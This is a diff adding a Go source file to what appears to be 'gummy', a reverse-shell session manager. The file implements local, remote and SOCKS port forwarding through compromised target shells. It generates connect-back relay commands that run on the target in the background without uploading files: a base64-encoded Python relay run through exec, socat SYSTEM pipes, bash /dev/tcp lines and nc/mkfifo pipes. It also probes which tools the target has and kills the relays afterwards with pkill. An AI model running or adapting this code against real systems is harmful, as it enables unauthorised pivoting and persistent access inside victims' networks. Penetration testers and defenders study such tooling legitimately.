@@ -0,0 +1,680 @@
+package internal
+
+import (
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/chsoares/gummy/internal/ui"
+)
+
+// Port forwarding works without uploading anything to the target:
+// a small relay (python, socat, bash /dev/tcp or nc) is launched through the
+// session's shell, opens the target-side socket and connects back to one of
+// our listeners announcing itself with "GUMMY:<token>\n". The listener hands
+// those connections to the forward that owns the token instead of creating
+// a new session.
+
+// relayTokenPrefix is sent by relay helpers as the first line of a callback
+const relayTokenPrefix = "GUMMY:"
+
+// relayTimeout is how long we wait for a relay helper to call back
+const relayTimeout = 10 * time.Second
+
+// relayTools lists the helpers we know how to launch, in order of preference
+var relayTools = []string{"python3", "python", "socat", "bash", "nc"}
+
+// relayPython is the python relay (py2/py3), passed base64 encoded via -c
+// Arguments: L|R <token> <cbhost> <cbport> <host> <port>
+// L connects to host:port once, R listens on host:port and relays every client
+const relayPython = `import socket,sys,threading
+def pipe(a,b):
+	try:
+		while 1:
+			d=a.recv(32768)
+			if not d:break
+			b.sendall(d)
+	except Exception:pass
+	for s in (a,b):
+		try:s.shutdown(2)
+		except Exception:pass
+def relay(c,t,h,p):
+	try:
+		s=socket.create_connection((h,int(p)))
+		s.sendall(('GUMMY:'+t+'\n').encode())
+	except Exception:
+		c.close();return
+	th=threading.Thread(target=pipe,args=(c,s));th.daemon=True;th.start()
+	pipe(s,c);c.close();s.close()
+m,t,h,p,a,b=sys.argv[1:7]
+if m=='L':
+	relay(socket.create_connection((a,int(b))),t,h,p)
+else:
+	l=socket.socket();l.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);l.bind((a,int(b)));l.listen(16)
+	while 1:
+		c,_=l.accept()
+		th=threading.Thread(target=relay,args=(c,t,h,p));th.daemon=True;th.start()
+`
+
+// PortForward is an active local (-L), remote (-R) or SOCKS forward through a session
+type PortForward struct {
+	ID       int
+	Kind     string       // "local", "remote" ou "socks"
+	Session  *SessionInfo // Sessão usada para lançar os relays
+	BindAddr string       // Onde escutamos (local: nossa máquina, remote: alvo)
+	DestAddr string       // Para onde as conexões são encaminhadas
+	Tool     string       // Ferramenta usada no alvo (python3, socat, ...)
+
+	token    string       // Prefixo dos tokens dos relays (também usado no pkill)
+	cbHost   string       // Listener para onde os relays conectam de volta
+	cbPort   int          // Porta do listener de callback
+	listener net.Listener // Listener local (apenas -L)
+
+	mu     sync.Mutex
+	conns  map[net.Conn]struct{}
+	closed bool
+}
+
+// track registers an open connection so it can be closed with the forward
+func (f *PortForward) track(conn net.Conn) bool {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+
+	if f.closed {
+		return false
+	}
+	f.conns[conn] = struct{}{}
+	return true
+}
+
+// untrack forgets a finished connection
+func (f *PortForward) untrack(conn net.Conn) {
+	f.mu.Lock()
+	delete(f.conns, conn)
+	f.mu.Unlock()
+}
+
+// ConnCount returns the number of relayed connections currently open
+func (f *PortForward) ConnCount() int {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+
+	return len(f.conns) / 2
+}
+
+// close stops the local listener and every relayed connection
+func (f *PortForward) close() {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+
+	if f.closed {
+		return
+	}
+	f.closed = true
+
+	if f.listener != nil {
+		f.listener.Close()
+	}
+	for conn := range f.conns {
+		conn.Close()
+	}
+	f.conns = nil
+}
+
+// parseForwardSpec parses "[bind:]port:host:port" (ssh -L/-R syntax)
+// The bind address defaults to 127.0.0.1
+func parseForwardSpec(spec string) (bindAddr, destAddr string, err error) {
+	parts := strings.Split(spec, ":")
+	if len(parts) == 3 {
+		parts = append([]string{"127.0.0.1"}, parts...)
+	}
+	if len(parts) != 4 || parts[0] == "" || parts[2] == "" {
+		return "", "", fmt.Errorf("invalid forward spec: %s (expected [bind:]port:host:port)", spec)
+	}
+
+	for _, p := range []string{parts[1], parts[3]} {
+		port, err := strconv.Atoi(p)
+		if err != nil || port < 1 || port > 65535 {
+			return "", "", fmt.Errorf("invalid port: %s", p)
+		}
+	}
+
+	return net.JoinHostPort(parts[0], parts[1]), net.JoinHostPort(parts[2], parts[3]), nil
+}
+
+// relayHostPattern matches the host names and IP addresses a relay may target
+var relayHostPattern = regexp.MustCompile(`^[A-Za-z0-9_.:-]+$`)
+
+// validateRelayTarget checks a relay destination before it reaches a command line
+// SOCKS clients pick the host, so anything that isn't a plain name/IP is refused
+func validateRelayTarget(host, port string) error {
+	if !relayHostPattern.MatchString(host) || strings.HasPrefix(host, "-") {
+		return fmt.Errorf("invalid host: %q", host)
+	}
+	n, err := strconv.Atoi(port)
+	if err != nil || n < 1 || n > 65535 || strconv.Itoa(n) != port {
+		return fmt.Errorf("invalid port: %q", port)
+	}
+	return nil
+}
+
+// relayCommand builds the shell command that launches a relay helper on the target
+// mode is "L" (connect to host:port) or "R" (listen on host:port)
+// Every argument is quoted; scripts passed to bash/sh -c are quoted as a whole
+func relayCommand(tool, mode, token, cbHost string, cbPort int, host, port string) (string, error) {
+	if err := validateRelayTarget(host, port); err != nil {
+		return "", err
+	}
+	back := fmt.Sprintf("%s%s", relayTokenPrefix, token)
+	cb := strconv.Itoa(cbPort)
+
+	switch tool {
+	case "python3", "python":
+		script := base64.StdEncoding.EncodeToString([]byte(relayPython))
+		return fmt.Sprintf("nohup %s -c %s %s %s %s %s %s %s >/dev/null 2>&1 &",
+			tool, shQuote("import base64;exec(base64.b64decode('"+script+"'))"),
+			shQuote(mode), shQuote(token), shQuote(cbHost), shQuote(cb), shQuote(host), shQuote(port)), nil
+	case "socat":
+		// SYSTEM's stdio is the target-side socket: token first, then its data
+		// socat splits addresses on ':' so the SYSTEM command needs them escaped
+		system := fmt.Sprintf("(echo %s; cat) | socat - TCP:%s:%s", back, cbHost, cb)
+		system = strings.ReplaceAll(system, ":", "\\:")
+		if mode == "R" {
+			return fmt.Sprintf("nohup socat %s %s >/dev/null 2>&1 &",
+				shQuote("TCP-LISTEN:"+port+",bind="+host+",reuseaddr,fork"), shQuote("SYSTEM:"+system)), nil
+		}
+		return fmt.Sprintf("nohup socat %s %s >/dev/null 2>&1 &",
+			shQuote("TCP:"+host+":"+port), shQuote("SYSTEM:"+system)), nil
+	case "bash":
+		if mode == "R" {
+			return "", fmt.Errorf("remote forwards need python or socat on the target")
+		}
+		script := fmt.Sprintf("exec 3<>%s && exec 4<>%s && echo %s >&4 && { cat <&3 >&4 & cat <&4 >&3; }",
+			shQuote("/dev/tcp/"+host+"/"+port), shQuote("/dev/tcp/"+cbHost+"/"+cb), shQuote(back))
+		return fmt.Sprintf("nohup bash -c %s >/dev/null 2>&1 &", shQuote(script)), nil
+	case "nc":
+		if mode == "R" {
+			return "", fmt.Errorf("remote forwards need python or socat on the target")
+		}
+		fifo := shQuote("/tmp/." + token)
+		script := fmt.Sprintf("mkfifo %s; (echo %s; nc %s %s <%s) | nc %s %s >%s; rm -f %s",
+			fifo, shQuote(back), shQuote(host), shQuote(port), fifo, shQuote(cbHost), shQuote(cb), fifo, fifo)
+		return fmt.Sprintf("nohup sh -c %s >/dev/null 2>&1 &", shQuote(script)), nil
+	}
+
+	return "", fmt.Errorf("unsupported relay tool: %s", tool)
+}
+
+// probeRelayTools returns which relay helpers exist on the target
+func probeRelayTools(session *SessionInfo) []string {
+	cmd := "for t in " + strings.Join(relayTools, " ") + "; do command -v $t >/dev/null 2>&1 && echo GUMMY_TOOL:$t; done"
+	output, err := session.ControlSession().Handler.ExecuteCommand(cmd)
+	if err != nil {
+		return nil
+	}
+
+	found := make(map[string]bool)
+	for _, line := range strings.Split(output, "\n") {
+		line = strings.TrimSpace(line)
+		if strings.HasPrefix(line, "GUMMY_TOOL:") {
+			found[strings.TrimPrefix(line, "GUMMY_TOOL:")] = true
+		}
+	}
+
+	var tools []string
+	for _, tool := range relayTools {
+		if found[tool] {
+			tools = append(tools, tool)
+		}
+	}
+	return tools
+}
+
+// pickRelayTool chooses the best available helper for a forward direction
+func pickRelayTool(tools []string, mode string) (string, error) {
+	for _, tool := range tools {
+		if mode == "R" && (tool == "bash" || tool == "nc") {
+			continue
+		}
+		return tool, nil
+	}
+
+	if mode == "R" {
+		return "", fmt.Errorf("remote forwards need python or socat on the target")
+	}
+	return "", fmt.Errorf("no relay tool found on target (need python, socat, bash or nc)")
+}
+
+// sniffRelayToken checks whether a new connection is a relay helper calling back
+// Returns a connection that replays any bytes consumed while sniffing
+func sniffRelayToken(conn net.Conn) (net.Conn, string) {
+	var buf []byte
+	chunk := make([]byte, 256)
+	deadline := time.Now().Add(300 * time.Millisecond)
+
+	for {
+		// Still a possible token prefix? Keep reading, otherwise give up early
+		n := min(len(buf), len(relayTokenPrefix))
+		if !bytes.Equal(buf[:n], []byte(relayTokenPrefix[:n])) {
+			break
+		}
+		if n == len(relayTokenPrefix) {
+			if idx := bytes.IndexByte(buf, '\n'); idx >= 0 {
+				conn.SetReadDeadline(time.Time{})
+				token := strings.TrimSpace(string(buf[len(relayTokenPrefix):idx]))
+				return &peekConn{Conn: conn, buf: buf[idx+1:]}, token
+			}
+			// Token line is short, allow a bit more time once the prefix matched
+			deadline = time.Now().Add(2 * time.Second)
+		}
+
+		conn.SetReadDeadline(deadline)
+		read, err := conn.Read(chunk)
+		buf = append(buf, chunk[:read]...)
+		if err != nil || len(buf) > 512 {
+			break
+		}
+	}
+
+	conn.SetReadDeadline(time.Time{})
+	if len(buf) == 0 {
+		return conn, ""
+	}
+	return &peekConn{Conn: conn, buf: buf}, ""
+}
+
+// peekConn replays bytes that were read before the connection was handed over
+type peekConn struct {
+	net.Conn
+	buf []byte
+}
+
+// Read returns buffered bytes first, then reads from the connection
+func (p *peekConn) Read(b []byte) (int, error) {
+	if len(p.buf) > 0 {
+		n := copy(b, p.buf)
+		p.buf = p.buf[n:]
+		return n, nil
+	}
+	return p.Conn.Read(b)
+}
+
+// relayConns copies data both ways until either side closes
+func relayConns(a, b net.Conn) {
+	done := make(chan struct{}, 2)
+	copyConn := func(dst, src net.Conn) {
+		io.Copy(dst, src)
+		done <- struct{}{}
+	}
+
+	go copyConn(a, b)
+	go copyConn(b, a)
+
+	<-done
+	a.Close()
+	b.Close()
+	<-done
+}
+
+// registerRelay routes relay callbacks carrying token to handler
+func (m *Manager) registerRelay(token string, handler func(net.Conn)) {
+	m.fwdMu.Lock()
+	m.relays[token] = handler
+	m.fwdMu.Unlock()
+}
+
+// unregisterRelay stops routing callbacks for token
+func (m *Manager) unregisterRelay(token string) {
+	m.fwdMu.Lock()
+	delete(m.relays, token)
+	m.fwdMu.Unlock()
+}
+
+// handleRelay dispatches a relay callback to the forward that launched it
+func (m *Manager) handleRelay(token string, conn net.Conn) {
+	m.fwdMu.Lock()
+	handler, exists := m.relays[token]
+	m.fwdMu.Unlock()
+
+	if !exists {
+		conn.Close()
+		return
+	}
+	handler(conn)
+}
+
+// AddPortForward starts a forward through a session
+// kind is "local" (-L: listen here, connect from the target) or
+// "remote" (-R: listen on the target, connect from here)
+func (m *Manager) AddPortForward(session *SessionInfo, kind, spec string) (*PortForward, error) {
+	bindAddr, destAddr, err := parseForwardSpec(spec)
+	if err != nil {
+		return nil, err
+	}
+
+	fwd, err := m.newPortForward(session, kind, bindAddr, destAddr)
+	if err != nil {
+		return nil, err
+	}
+
+	if kind == "remote" {
+		err = m.startRemoteForward(fwd)
+	} else {
+		err = m.startLocalForward(fwd)
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	m.addForward(fwd)
+	return fwd, nil
+}
+
+// newPortForward prepares a forward: picks the callback listener and relay tool
+func (m *Manager) newPortForward(session *SessionInfo, kind, bindAddr, destAddr string) (*PortForward, error) {
+	if session.Platform() == "windows" {
+		return nil, fmt.Errorf("port forwarding is only supported on linux/macos targets")
+	}
+
+	cbHost, cbPort, err := m.resolveListener(m.sessionListenerID(session))
+	if err != nil {
+		return nil, err
+	}
+	if cbHost == "" || cbPort == 0 {
+		return nil, fmt.Errorf("no listener available for relay callbacks")
+	}
+
+	mode := "L"
+	if kind == "remote" {
+		mode = "R"
+	}
+	tool, err := pickRelayTool(probeRelayTools(session), mode)
+	if err != nil {
+		return nil, err
+	}
+
+	return &PortForward{
+		Kind:     kind,
+		Session:  session,
+		BindAddr: bindAddr,
+		DestAddr: destAddr,
+		Tool:     tool,
+		token:    generateSessionID()[:12],
+		cbHost:   cbHost,
+		cbPort:   cbPort,
+		conns:    make(map[net.Conn]struct{}),
+	}, nil
+}
+
+// addForward assigns an ID to a started forward and registers it
+func (m *Manager) addForward(fwd *PortForward) {
+	m.fwdMu.Lock()
+	fwd.ID = m.nextForwardID
+	m.forwards[fwd.ID] = fwd
+	m.nextForwardID++
+	m.fwdMu.Unlock()
+}
+
+// startLocalForward listens locally and launches one relay per client
+func (m *Manager) startLocalForward(fwd *PortForward) error {
+	listener, err := net.Listen("tcp", fwd.BindAddr)
+	if err != nil {
+		return fmt.Errorf("failed to listen on %s: %w", fwd.BindAddr, err)
+	}
+	fwd.listener = listener
+
+	go func() {
+		for {
+			client, err := listener.Accept()
+			if err != nil {
+				return // Listener fechado
+			}
+			go m.handleLocalForwardConn(fwd, client)
+		}
+	}()
+
+	return nil
+}
+
+// handleLocalForwardConn relays one local client through a fresh relay helper
+func (m *Manager) handleLocalForwardConn(fwd *PortForward, client net.Conn) {
+	if !fwd.track(client) {
+		client.Close()
+		return
+	}
+	defer fwd.untrack(client)
+
+	host, port, _ := net.SplitHostPort(fwd.DestAddr)
+	remote, err := m.openRelay(fwd, host, port)
+	if err != nil {
+		client.Close()
+		return
+	}
+	defer fwd.untrack(remote)
+
+	relayConns(client, remote)
+}
+
+// openRelay launches a relay helper that connects from the target to host:port
+// and waits for it to call back. The returned connection is tracked by fwd
+func (m *Manager) openRelay(fwd *PortForward, host, port string) (net.Conn, error) {
+	// One token per connection so callbacks can't be mixed up
+	token := fwd.token + generateSessionID()[:6]
+	arrived := make(chan net.Conn, 1)
+	m.registerRelay(token, func(conn net.Conn) {
+		select {
+		case arrived <- conn:
+		default:
+			conn.Close()
+		}
+	})
+	defer m.unregisterRelay(token)
+
+	cmd, err := relayCommand(fwd.Tool, "L", token, fwd.cbHost, fwd.cbPort, host, port)
+	if err != nil {
+		return nil, err
+	}
+	if err := m.sendBackground(fwd.Session, cmd); err != nil {
+		return nil, fmt.Errorf("failed to launch relay: %w", err)
+	}
+
+	select {
+	case remote := <-arrived:
+		if !fwd.track(remote) {
+			remote.Close()
+			return nil, fmt.Errorf("port forward closed")
+		}
+		return remote, nil
+	case <-time.After(relayTimeout):
+		return nil, fmt.Errorf("relay to %s did not call back", net.JoinHostPort(host, port))
+	}
+}
+
+// startRemoteForward launches a listening relay on the target
+// Every client it accepts calls back with the forward's token
+func (m *Manager) startRemoteForward(fwd *PortForward) error {
+	m.registerRelay(fwd.token, func(remote net.Conn) {
+		if !fwd.track(remote) {
+			remote.Close()
+			return
+		}
+		defer fwd.untrack(remote)
+
+		local, err := net.DialTimeout("tcp", fwd.DestAddr, relayTimeout)
+		if err != nil {
+			remote.Close()
+			return
+		}
+		if !fwd.track(local) {
+			local.Close()
+			remote.Close()
+			return
+		}
+		defer fwd.untrack(local)
+
+		relayConns(remote, local)
+	})
+
+	host, port, _ := net.SplitHostPort(fwd.BindAddr)
+	cmd, err := relayCommand(fwd.Tool, "R", fwd.token, fwd.cbHost, fwd.cbPort, host, port)
+	if err == nil {
+		err = m.sendBackground(fwd.Session, cmd)
+	}
+	if err != nil {
+		m.unregisterRelay(fwd.token)
+		return err
+	}
+
+	return nil
+}
+
+// RemovePortForward stops a forward and kills its helpers on the target
+func (m *Manager) RemovePortForward(id int) error {
+	m.fwdMu.Lock()
+	fwd, exists := m.forwards[id]
+	if exists {
+		delete(m.forwards, id)
+	}
+	m.fwdMu.Unlock()
+
+	if !exists {
+		return fmt.Errorf("port forward %d not found", id)
+	}
+
+	m.unregisterRelay(fwd.token)
+	fwd.close()
+
+	// Relay helpers carry the token in their command line
+	m.sendBackground(fwd.Session, fmt.Sprintf("pkill -f %s 2>/dev/null", fwd.token))
+	return nil
+}
+
+// killSessionForwards asks the target to kill the helpers of every forward of a session
+// Used before an explicit kill, while the connection is still usable
+func (m *Manager) killSessionForwards(session *SessionInfo) {
+	for _, fwd := range m.GetPortForwards() {
+		if fwd.Session == session {
+			session.Conn.Write([]byte(fmt.Sprintf("pkill -f %s 2>/dev/null\n", fwd.token)))
+		}
+	}
+}
+
+// closeSessionForwards tears down the local side of every forward of a session
+func (m *Manager) closeSessionForwards(session *SessionInfo) int {
+	m.fwdMu.Lock()
+	var closing []*PortForward
+	for id, fwd := range m.forwards {
+		if fwd.Session == session {
+			closing = append(closing, fwd)
+			delete(m.forwards, id)
+		}
+	}
+	m.fwdMu.Unlock()
+
+	for _, fwd := range closing {
+		m.unregisterRelay(fwd.token)
+		fwd.close()
+	}
+	return len(closing)
+}
+
+// GetPortForwards returns all active forwards sorted by ID
+func (m *Manager) GetPortForwards() []*PortForward {
+	m.fwdMu.Lock()
+	defer m.fwdMu.Unlock()
+
+	forwards := make([]*PortForward, 0, len(m.forwards))
+	for _, fwd := range m.forwards {
+		forwards = append(forwards, fwd)
+	}
+	sort.Slice(forwards, func(i, j int) bool {
+		return forwards[i].ID < forwards[j].ID
+	})
+	return forwards
+}
+
+// ListPortForwards displays all active forwards
+func (m *Manager) ListPortForwards() {
+	forwards := m.GetPortForwards()
+	if len(forwards) == 0 {
+		fmt.Println(ui.Info("No active port forwards"))
+		return
+	}
+
+	var lines []string
+	lines = append(lines, ui.TableHeader("id  session  type    bind                   destination            tool     conns"))
+	for _, fwd := range forwards {
+		lines = append(lines, ui.Command(fmt.Sprintf("%-3d %-8d %-7s %-22s %-22s %-8s %d",
+			fwd.ID, fwd.Session.NumID, fwd.Kind, fwd.BindAddr, fwd.DestAddr, fwd.Tool, fwd.ConnCount())))
+	}
+
+	fmt.Println(ui.BoxWithTitle(fmt.Sprintf("%s Port Forwards", ui.SymbolGem), lines))
+}
+
+// handlePortFwd handles the portfwd command
+// portfwd [list]                               - list active forwards
+// portfwd add -L [lhost:]lport:rhost:rport     - local forward through the selected session
+// portfwd add -R [rhost:]rport:lhost:lport     - remote forward through the selected session
+// portfwd del <id>                             - remove a forward
+func (m *Manager) handlePortFwd(args []string) {
+	if len(args) == 0 || args[0] == "list" {
+		m.ListPortForwards()
+		return
+	}
+
+	switch args[0] {
+	case "add":
+		if len(args) != 3 || (args[1] != "-L" && args[1] != "-R") {
+			fmt.Println(ui.CommandHelp("Usage: portfwd add -L [lhost:]lport:rhost:rport | -R [rhost:]rport:lhost:lport"))
+			return
+		}
+		if m.selectedSession == nil {
+			fmt.Println(ui.Error("No session selected. Use 'use <id>' first."))
+			return
+		}
+
+		kind := "local"
+		if args[1] == "-R" {
+			kind = "remote"
+		}
+
+		fwd, err := m.AddPortForward(m.selectedSession, kind, args[2])
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+
+		if kind == "remote" {
+			fmt.Println(ui.Success(fmt.Sprintf("Port forward %d: %s (target) -> %s (local) via %s",
+				fwd.ID, fwd.BindAddr, fwd.DestAddr, fwd.Tool)))
+		} else {
+			fmt.Println(ui.Success(fmt.Sprintf("Port forward %d: %s (local) -> %s (target) via %s",
+				fwd.ID, fwd.BindAddr, fwd.DestAddr, fwd.Tool)))
+		}
+	case "del", "rm", "stop":
+		if len(args) != 2 {
+			fmt.Println(ui.CommandHelp("Usage: portfwd del <id>"))
+			return
+		}
+		id, err := strconv.Atoi(args[1])
+		if err != nil {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid port forward ID: %s", args[1])))
+			return
+		}
+		if err := m.RemovePortForward(id); err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+		fmt.Println(ui.Success(fmt.Sprintf("Port forward %d removed", id)))
+	default:
+		fmt.Println(ui.CommandHelp("Usage: portfwd [list] | portfwd add -L|-R <spec> | portfwd del <id>"))
+	}
+}